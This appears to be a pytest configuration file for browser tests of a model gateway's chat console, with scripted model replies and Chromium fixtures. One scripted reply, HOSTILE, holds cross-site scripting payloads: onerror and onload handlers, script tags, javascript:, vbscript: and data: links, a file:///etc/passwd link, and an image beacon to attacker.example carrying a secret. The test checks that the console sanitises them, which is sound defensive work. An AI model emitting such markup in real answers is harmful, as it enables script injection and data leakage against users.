"""A gateway with the console, and a browser."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gateway_testing.server import RunningGateway, run_gateway

from .chromium import Chromium, Page, executable, run_chromium

ROOT = Path(__file__).parents[3]
SEEING = ROOT / "tests/models/tiny-qwen3-vision/tiny-qwen3-vision.gguf"
HOSTILE = """\
<img src=x onerror="window.owned = 1"> <script>window.owned = 2</script>
[click](javascript:window.owned=3) [data](data:text/html,<script>1</script>) [file](file:///etc/passwd)
![leak](https://attacker.example/leak?secret) <a href="javascript:window.owned=4">x</a>
[fine](https://example.org/page) <https://example.org/angled> `<b>code</b>`

<iframe src="https://attacker.example"></iframe> <svg onload="window.owned=5"></svg>

| <img src=x onerror=window.owned=6> | b |
|---|---|
| [cell](vbscript:x) | <style>*{display:none}</style> |
"""
RICH = """\
Two ways to sort a list in **Python**:

1. `sorted(values)` returns a *new* list.
2. `values.sort()` sorts in place.

```python
names = ["Ada", "Grace", "Alan"]
print(sorted(names, key=len))
```

| call | returns | stable |
|---|---|---|
| `sorted` | a list | yes |
| `list.sort` | `None` | yes |

> Both use Timsort. More in the [documentation](https://docs.python.org/3/howto/sorting.html).
"""
RULES: list[dict[str, Any]] = [
    {"when": "sort a list", "chunk": 12, "delay_ms": 1, "pieces": [{"reasoning": "The user wants to sort a list. I show both ways."}, {"text": RICH}]},
    {"when": "hostile answer", "chunk": 7, "pieces": [{"reasoning": HOSTILE}, {"text": HOSTILE}]},
    {"when": "a million characters", "chunk": 25_000, "pieces": [{"text": "*x_" * 333_334}]},
    {"when": "go slowly", "delay_ms": 100, "repeat": 40, "pieces": [{"text": "slow words "}]},
    {"when": "go on forever", "delay_ms": 25, "repeat": 3000, "pieces": [{"text": "more words "}]},
    {"when": "break down", "finish": "error", "pieces": [{"text": "It begins well"}]},
    {"when": "be busy", "error": {"status": 429, "message": "The engine is busy. Try again."}},
    {"when": "weather in Oslo", "pieces": [{"reasoning": "There is a tool."}, {"call": {"name": "get_weather", "arguments": {"city": "Oslo"}}}]},
    {"when": "a formula", "chunk": 3, "pieces": [{"text": "For $5 you get \\(x^2\\):\n\n$$\n\\sqrt{x}\n$$\n"}]},
    {"when": "-3 degrees", "pieces": [{"text": "It is -3 degrees in Oslo."}]},
    {"when": "a person", "pieces": [{"text": '{"name": "Ada", "age": 36}'}]},
]  # fmt: skip
MODELS: dict[str, Any] = {
    "tiny": {"path": SEEING, "sampling": {"temperature": 0}},
    "scripted": {"engine": "scripted", "max_model_len": 5_000_000},
}


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    if executable() is None:
        skip = pytest.mark.skip(reason="Chromium is not installed: apt-get install chromium")
        for item in items:
            if item.get_closest_marker("browser"):
                item.add_marker(skip)


@pytest.fixture(scope="session")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The address of a gateway with the tiny model that sees, and a scripted one."""
    folder = tmp_path_factory.mktemp("console")
    scenario = folder / "scenario.json"
    scenario.write_text(json.dumps(RULES))
    models = {**MODELS, "scripted": {**MODELS["scripted"], "path": scenario}}
    with run_gateway({"models": models}, folder) as running:
        yield address(running)


@pytest.fixture(scope="session")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    with run_chromium(tmp_path_factory.mktemp("chromium")) as browser:
        yield browser


@pytest.fixture
def page(chromium: Chromium, console: str) -> Iterator[Page]:
    """The console in a browser that has never been there."""
    with chromium.page() as page:
        page.open(f"{console}/")
        yield page


def address(running: RunningGateway) -> str:
    return running.base_url.removesuffix("/v1")
